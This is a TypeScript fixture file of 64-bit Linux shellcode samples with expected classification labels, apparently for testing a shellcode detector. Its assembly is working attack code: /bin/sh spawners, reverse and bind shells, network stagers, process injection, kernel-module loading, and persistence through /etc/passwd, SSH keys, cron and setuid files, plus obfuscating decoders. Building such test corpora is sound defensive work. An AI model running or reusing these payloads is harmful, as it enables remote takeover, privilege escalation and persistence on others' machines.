import type { Sample } from './sample.ts';

const PUSH_SHELL = `
  xor edx, edx
  push rdx
  mov rbx, 0x68732f6e69622f2f
  push rbx
  push rsp
  pop rdi`;
const EXECVE = `
  push rdx
  push rdi
  push rsp
  pop rsi
  push 59
  pop rax
  syscall`;
const SHELL = PUSH_SHELL + EXECVE;
const DUP_LOOP = `
  push 3
  pop rsi
1: dec esi
  push 33
  pop rax
  syscall
  jnz 1b`;
const SOCKET = `
  push 41
  pop rax
  push 2
  pop rdi
  push 1
  pop rsi
  cdq
  syscall
  xchg edi, eax`;

/** 64-bit shellcodes. */
export const SAMPLES_64: readonly Sample[] = [
  {
    name: 'pushed /bin/sh',
    bits: 64,
    source: SHELL,
    chain: 'shell',
    call: 'execve("//bin/sh", ["//bin/sh"]',
    traits: ['stack-string', 'syscall'],
  },
  {
    name: '/bin/sh with a NUL in the constant',
    bits: 64,
    source:
      'mov rax, 0x0068732f6e69622f; push rax; mov rdi, rsp; xor esi, esi; xor edx, edx; mov eax, 59; syscall',
    chain: 'shell',
    call: 'execve("/bin/sh", NULL, NULL)',
    traits: ['stack-string'],
  },
  {
    name: '/bin/sh in the code, by jmp-call-pop',
    bits: 64,
    source:
      'jmp 2f; 1: pop rdi; xor esi, esi; xor edx, edx; push 59; pop rax; syscall; 2: call 1b; .asciz "/bin/sh"',
    chain: 'shell',
    call: '"/bin/sh"',
    traits: ['load-rip', 'syscall'],
  },
  {
    name: '/bin/sh in the code, by rip-relative lea',
    bits: 64,
    source: 'lea rdi, [rip+1f]; xor esi, esi; xor edx, edx; mov eax, 59; syscall; 1: .asciz "/bin/sh"',
    chain: 'shell',
    call: '"/bin/sh"',
  },
  {
    name: '/bin/sh inverted, and turned by neg',
    bits: 64,
    source:
      'mov rbx, 0xFF978CD091969DD1; neg rbx; push rbx; push rsp; pop rdi; cdq; push rdx; push rdi; push rsp; pop rsi; mov al, 59; syscall',
    chain: 'shell',
    call: '"/bin/sh"',
    traits: ['stack-string'],
  },
  {
    name: '/bin/sh shifted down from a full register',
    bits: 64,
    source:
      'mov rbx, 0x68732f6e69622fff; shr rbx, 8; push rbx; mov rdi, rsp; xor esi, esi; xor edx, edx; push 59; pop rax; syscall',
    chain: 'shell',
    call: '"/bin/sh"',
  },
  {
    name: '/bin/sh written byte by byte',
    bits: 64,
    source: `sub rsp, 16; mov rdi, rsp; mov byte ptr [rdi], '/'; mov byte ptr [rdi+1], 'b'; mov byte ptr [rdi+2], 'i'
      mov byte ptr [rdi+3], 'n'; mov byte ptr [rdi+4], '/'; mov byte ptr [rdi+5], 's'; mov byte ptr [rdi+6], 'h'
      mov byte ptr [rdi+7], 0; xor esi, esi; xor edx, edx; mov eax, 59; syscall`,
    chain: 'shell',
    call: '"/bin/sh"',
  },
  {
    name: '/bin/sh xored by a constant',
    bits: 64,
    source:
      'mov rax, 0x169751b5a1c4bc4; mov rbx, 0x01011a7534732aeb; mov rcx, 0x0068732f6e69622f; push rcx; mov rdi, rsp; xor esi, esi; xor edx, edx; mov eax, 59; syscall',
    chain: 'shell',
  },
  {
    name: '/bin/bash -c',
    bits: 64,
    source: `jmp 2f; 1: pop rbx; lea rdi, [rbx]; lea rcx, [rbx+10]; lea r8, [rbx+13]; xor eax, eax; push rax; push r8; push rcx; push rdi
      mov rsi, rsp; xor edx, edx; mov al, 59; syscall; 2: call 1b; .asciz "/bin/bash"; .asciz "-c"; .asciz "id > /tmp/x"`,
    chain: 'shell',
    call: '["/bin/bash", "-c", "id > /tmp/x"]',
  },
  {
    name: 'execveat',
    bits: 64,
    source: `${PUSH_SHELL}
      mov rsi, rdi; xor edi, edi; xor edx, edx; xor r10d, r10d; xor r8d, r8d; mov eax, 322; syscall`,
    chain: 'shell',
    call: 'execveat(',
  },
  {
    name: 'x32 numbers',
    bits: 64,
    source: `${PUSH_SHELL}\nxor esi, esi\nmov eax, 0x40000208\nsyscall`,
    chain: 'shell',
    call: 'execve("//bin/sh"',
  },
  {
    name: 'i386 call from 64-bit code',
    bits: 64,
    source:
      'xor eax, eax; mov ecx, 0x30000; mov eax, 192; mov ebx, 0x10000; mov ecx, 0x1000; mov edx, 7; mov esi, 0x32; mov edi, -1; xor ebp, ebp; int 0x80; mov ebx, eax; mov dword ptr [rbx], 0x6e69622f; mov dword ptr [rbx+4], 0x0068732f; xor ecx, ecx; xor edx, edx; mov eax, 11; int 0x80',
    chain: 'shell',
    call: 'execve("/bin/sh"',
  },
  {
    name: 'setuid(0) and a shell',
    bits: 64,
    source: `xor edi, edi; mov eax, 105; syscall; ${SHELL}`,
    chain: 'privilege change',
    call: 'setuid(0)',
  },
  {
    name: 'setreuid and a shell',
    bits: 64,
    source: `push 107; pop rax; syscall; mov edi, eax; mov esi, eax; push 113; pop rax; syscall; ${SHELL}`,
    chain: 'shell',
    call: 'setreuid(',
  },
  {
    name: 'reverse shell',
    bits: 64,
    source: `${SOCKET}
      mov rcx, 0x0100007f5c110002; push rcx; mov rsi, rsp; push 16; pop rdx; push 42; pop rax; syscall; ${DUP_LOOP}; ${SHELL}`,
    chain: 'reverse shell',
    call: 'connect(3, 127.0.0.1:4444, 16)',
  },
  {
    name: 'reverse shell, IPv6',
    bits: 64,
    source: `push 41; pop rax; push 10; pop rdi; push 1; pop rsi; cdq; syscall; xchg edi, eax
      push 0; mov rcx, 0x0100000000000000; push rcx; push 0; mov rcx, 0x000000003905000a; push rcx; mov rsi, rsp; push 28; pop rdx; push 42; pop rax; syscall
      ${DUP_LOOP}; ${SHELL}`,
    chain: 'reverse shell',
    call: '[::1]:1337',
  },
  {
    name: 'reverse shell, dup3 and close',
    bits: 64,
    source: `${SOCKET}
      mov rcx, 0x0201a8c0bb010002; push rcx; mov rsi, rsp; push 16; pop rdx; push 42; pop rax; syscall
      mov ebx, 2; 1: mov esi, ebx; xor edx, edx; mov eax, 292; syscall; dec ebx; jns 1b; ${SHELL}`,
    chain: 'reverse shell',
    call: '192.168.1.2:443',
  },
  {
    name: 'reverse shell by fcntl',
    bits: 64,
    source: `${SOCKET}
      mov rcx, 0x0100007f5c110002; push rcx; mov rsi, rsp; push 16; pop rdx; push 42; pop rax; syscall
      mov ebx, edi; xor edi, edi; mov eax, 3; syscall; mov edi, ebx; xor esi, esi; xor edx, edx; mov eax, 72; syscall; ${SHELL}`,
    chain: 'reverse shell',
  },
  {
    name: 'bind shell',
    bits: 64,
    source: `${SOCKET}
      push 0; mov rcx, 0x000000005c110002; push rcx; mov rsi, rsp; push 16; pop rdx; push 49; pop rax; syscall
      push 1; pop rsi; push 50; pop rax; syscall; xor esi, esi; xor edx, edx; push 43; pop rax; syscall; xchg edi, eax; ${DUP_LOOP}; ${SHELL}`,
    chain: 'bind shell',
    call: 'bind(3, 0.0.0.0:4444, 16)',
  },
  {
    name: 'bind shell that forks for each client',
    bits: 64,
    source: `${SOCKET}
      push 0; mov rcx, 0x0000000039050002; push rcx; mov rsi, rsp; push 16; pop rdx; push 49; pop rax; syscall
      push 50; pop rax; push 5; pop rsi; syscall; mov ebp, edi
      3: mov edi, ebp; xor esi, esi; xor edx, edx; push 43; pop rax; syscall; mov ebx, eax; push 57; pop rax; syscall; test eax, eax; jnz 3b
      mov edi, ebx; ${DUP_LOOP}; ${SHELL}`,
    chain: 'bind shell',
  },
  {
    name: 'shell on a socket that was open',
    bits: 64,
    source: `push 5; pop rdi; ${DUP_LOOP}; ${SHELL}`.replace(
      'push 5',
      'sub rsp, 64; mov rsi, rsp; lea rdx, [rsp+32]; mov dword ptr [rdx], 16; push 5; pop rdi; push 52; pop rax; syscall; push 5',
    ),
    chain: 'bind shell',
    call: 'getpeername(5',
  },
  {
    name: 'read stager into its own stack',
    bits: 64,
    source: 'xor edi, edi; sub rsp, 0x200; mov rsi, rsp; mov edx, 0x200; xor eax, eax; syscall; jmp rsi',
    chain: 'staged loader',
    traits: ['received-code'],
  },
  {
    name: 'mmap stager over a connection',
    bits: 64,
    source: `${SOCKET}
      mov rcx, 0x0100007f5c110002; push rcx; mov rsi, rsp; push 16; pop rdx; push 42; pop rax; syscall; mov ebx, edi
      xor edi, edi; mov esi, 0x1000; mov edx, 7; mov r10d, 0x22; mov r8, -1; xor r9d, r9d; mov eax, 9; syscall
      mov rsi, rax; mov edi, ebx; mov edx, 0x1000; xor eax, eax; syscall; jmp rsi`,
    chain: 'staged loader',
    call: 'PROT_READ|PROT_WRITE|PROT_EXEC',
  },
  {
    name: 'stager that asks for a length first',
    bits: 64,
    source: `mov ebx, 4; sub rsp, 16; mov edi, ebx; mov rsi, rsp; mov edx, 4; xor r10d, r10d; xor r8d, r8d; mov eax, 45; syscall
      mov r12d, [rsp]; xor edi, edi; mov rsi, r12; mov edx, 7; mov r10d, 0x22; mov r8, -1; xor r9d, r9d; mov eax, 9; syscall
      mov r13, rax; mov edi, ebx; mov rsi, r13; mov rdx, r12; xor eax, eax; syscall; call r13`,
    chain: 'staged loader',
  },
  {
    name: 'stager that overwrites itself',
    bits: 64,
    source:
      'lea rsi, [rip+1f]; xor edi, edi; mov edx, 0x100; xor eax, eax; syscall; nop; nop; 1: nop; nop; nop',
    chain: 'staged loader',
  },
  {
    name: 'stager with mprotect of the stack',
    bits: 64,
    source:
      'mov rdi, rsp; and rdi, -4096; mov esi, 0x1000; mov edx, 7; mov eax, 10; syscall; mov rsi, rdi; xor edi, edi; mov edx, 0x800; xor eax, eax; syscall; push rsi; ret',
    chain: 'staged loader',
    traits: ['tainted-return', 'received-code'],
  },
  {
    name: 'memfd and /proc/self/fd',
    bits: 64,
    source: `push 0; mov rdi, rsp; mov esi, 1; mov eax, 319; syscall; mov ebx, eax; mov edi, eax; lea rsi, [rip+1f]; mov edx, 4; mov eax, 1; syscall
      lea rdi, [rip+2f]; push 0; mov rsi, rsp; xor edx, edx; mov eax, 59; syscall; 1: .byte 0x7f; .ascii "ELF"; 2: .asciz "/proc/self/fd/3"`,
    chain: 'file-less execution',
    call: 'memfd_create("", MFD_CLOEXEC)',
  },
  {
    name: 'memfd and execveat with an empty path',
    bits: 64,
    source: `lea rdi, [rip+1f]; xor esi, esi; mov eax, 319; syscall; mov edi, eax; push 0; mov rsi, rsp; xor edx, edx; xor r10d, r10d; mov r8d, 0x1000; mov eax, 322; syscall
      1: .asciz "kworker"`,
    chain: 'file-less execution',
    call: 'AT_EMPTY_PATH',
  },
  {
    name: 'a line for /etc/passwd',
    bits: 64,
    source: `lea rdi, [rip+1f]; mov esi, 0x441; xor edx, edx; mov eax, 2; syscall; mov edi, eax; lea rsi, [rip+2f]; mov edx, 20; mov eax, 1; syscall; mov eax, 60; syscall
      1: .asciz "/etc/passwd"; 2: .asciz "toor::0:0::/:/bin/sh"`,
    chain: 'persistence',
    call: 'open("/etc/passwd", O_WRONLY|O_CREAT|O_APPEND',
  },
  {
    name: 'a cron job',
    bits: 64,
    source:
      'lea rsi, [rip+1f]; mov edi, -100; mov edx, 0x241; mov r10d, 0644; mov eax, 257; syscall; mov eax, 231; syscall; 1: .asciz "/etc/cron.d/x"',
    chain: 'persistence',
    call: 'openat(AT_FDCWD, "/etc/cron.d/x"',
  },
  {
    name: 'authorized keys',
    bits: 64,
    source:
      'lea rdi, [rip+1f]; mov esi, 0600; mov eax, 85; syscall; xor edi, edi; mov eax, 60; syscall; 1: .asciz "/root/.ssh/authorized_keys"',
    chain: 'persistence',
    call: 'creat("/root/.ssh/authorized_keys", 0600)',
  },
  {
    name: 'a set-user-ID bit',
    bits: 64,
    source:
      'lea rdi, [rip+1f]; mov esi, 04755; mov eax, 90; syscall; mov eax, 60; syscall; 1: .asciz "/tmp/sh"',
    chain: 'privilege change',
    call: 'chmod("/tmp/sh", 04755)',
  },
  {
    name: 'a new user namespace',
    bits: 64,
    source: 'mov edi, 0x10000000; mov eax, 272; syscall; mov eax, 60; syscall',
    chain: 'privilege change',
    call: 'CLONE_NEWUSER',
  },
  {
    name: 'a kernel module by descriptor',
    bits: 64,
    source:
      'lea rdi, [rip+1f]; xor esi, esi; mov eax, 2; syscall; mov edi, eax; lea rsi, [rip+2f]; xor edx, edx; mov eax, 313; syscall; mov eax, 60; syscall; 1: .asciz "/tmp/rk.ko"; 2: .byte 0',
    chain: 'kernel-module load',
    call: 'finit_module(3',
  },
  {
    name: 'a kernel module from memory',
    bits: 64,
    source: 'lea rdi, [rip]; mov esi, 0x1000; lea rdx, [rip]; mov eax, 175; syscall; mov eax, 60; syscall',
    chain: 'kernel-module load',
  },
  {
    name: 'injection by ptrace',
    bits: 64,
    source:
      'mov edi, 16; mov esi, 1234; xor edx, edx; xor r10d, r10d; mov eax, 101; syscall; mov edi, 4; mov rdx, 0x400000; mov r10, 0xcc; mov eax, 101; syscall; mov eax, 60; syscall',
    chain: 'process injection',
    call: 'ptrace(PTRACE_ATTACH, 1234',
  },
  {
    name: 'injection by process_vm_writev',
    bits: 64,
    source:
      'mov edi, 1234; mov rsi, rsp; mov edx, 1; mov r10, rsp; mov r8d, 1; xor r9d, r9d; mov eax, 311; syscall; mov eax, 60; syscall',
    chain: 'process injection',
    call: 'process_vm_writev(1234',
  },
  {
    name: 'injection by /proc/PID/mem',
    bits: 64,
    source:
      'lea rdi, [rip+1f]; mov esi, 2; mov eax, 2; syscall; mov edi, eax; mov rsi, rsp; mov edx, 8; mov r10, 0x400000; mov eax, 18; syscall; mov eax, 60; syscall; 1: .asciz "/proc/77/mem"',
    chain: 'process injection',
    call: 'open("/proc/77/mem", O_RDWR',
  },
  {
    name: 'egg hunt by access',
    bits: 64,
    source: `mov edi, 0x10000; 1: or di, 0xfff; 2: inc rdi; push 21; pop rax; xor esi, esi; push rdi; add rdi, 8; syscall; pop rdi; cmp al, 0xf2; jz 1b
      mov eax, 0x50905090; cmp [rdi], eax; jnz 2b; jmp rdi`,
    chain: 'egg hunt',
  },
  {
    name: 'egg hunt by rt_sigaction',
    bits: 64,
    source:
      '1: or si, 0xfff; 2: inc rsi; push 13; pop rax; push 10; pop rdi; xor edx, edx; push 8; pop r10; syscall; cmp al, 0xf2; jz 1b; cmp dword ptr [rsi], 0x50905090; jnz 2b; jmp rsi',
    chain: 'egg hunt',
  },
  {
    name: 'from 64 to 32 bits, and a shell there',
    bits: 64,
    source: `xor edi, edi; mov edi, 0x20000; mov esi, 0x4000; mov edx, 7; mov r10d, 0x32; mov r8, -1; xor r9d, r9d; mov eax, 9; syscall
      lea rsi, [rip+1f]; mov edi, 0x20000; mov ecx, 64; rep movsb; mov esp, 0x23000; push 0; mov dword ptr [rsp+4], 0x23; mov dword ptr [rsp], 0x20000; .byte 0xcb
      1: .code32; xor edx, edx; push edx; push 0x68732f2f; push 0x6e69622f; mov ebx, esp; xor ecx, ecx; mov eax, 11; int 0x80; .code64`,
    chain: 'shell',
    call: 'execve("/bin//sh"',
    traits: ['heavens-gate', 'stack-pivot', 'write-self'],
  },
  {
    name: 'a sled of one-byte no-operations',
    bits: 64,
    source: `.skip 64, 0x90; ${SHELL}`,
    chain: 'shell',
    traits: ['nop-sled'],
  },
  {
    name: 'a sled of long no-operations',
    bits: 64,
    source: `.rept 20; .byte 0x0f, 0x1f, 0x84, 0, 0, 0, 0, 0; .endr; ${SHELL}`,
    chain: 'shell',
    traits: ['nop-sled'],
  },
  {
    name: 'a sled of bytes that change nothing of use',
    bits: 64,
    source: `.rept 12; clc; cld; cmc; stc; .byte 0x98; .byte 0x99; .endr; ${SHELL}`,
    chain: 'shell',
    traits: ['nop-sled'],
  },
  {
    name: 'decoder: xor by jmp-call-pop',
    bits: 64,
    source: `jmp 3f; 1: pop rsi; push rsi; mov ecx, 0x20; 2: xor byte ptr [rsi], 0; inc rsi; loop 2b; ret; 3: call 1b; ${SHELL}`,
    chain: 'shell',
    traits: ['load-rip', 'write-self', 'decoder-loop'],
  },
  {
    name: 'decoder: x87 get-PC and subtraction',
    bits: 64,
    source: `fldz; fnstenv [rsp-12]; pop rsi; mov esi, esi; lea rsi, [rip+3f]; mov ecx, 0x20; 2: sub byte ptr [rsi], 0; inc rsi; dec ecx; jnz 2b; 3: ${SHELL}`,
    chain: 'shell',
    traits: ['load-rip', 'decoder-loop'],
  },
  {
    name: 'decoder: SSE, sixteen bytes a step',
    bits: 64,
    source: `lea rsi, [rip+3f]; pxor xmm1, xmm1; mov ecx, 6; 2: movdqu xmm0, [rsi]; pxor xmm0, xmm1; movdqu [rsi], xmm0; add rsi, 16; dec ecx; jnz 2b; 3: ${SHELL}; .skip 80, 0x90`,
    chain: 'shell',
    traits: ['decoder-loop'],
  },
  {
    name: 'copy to new memory, and run there',
    bits: 64,
    source: `xor edi, edi; mov esi, 0x1000; mov edx, 7; mov r10d, 0x22; mov r8, -1; xor r9d, r9d; mov eax, 9; syscall; mov rdi, rax; lea rsi, [rip+1f]; mov ecx, 64; rep movsb; jmp rax; 1: ${SHELL}`,
    chain: 'shell',
    traits: ['write-self'],
  },
];
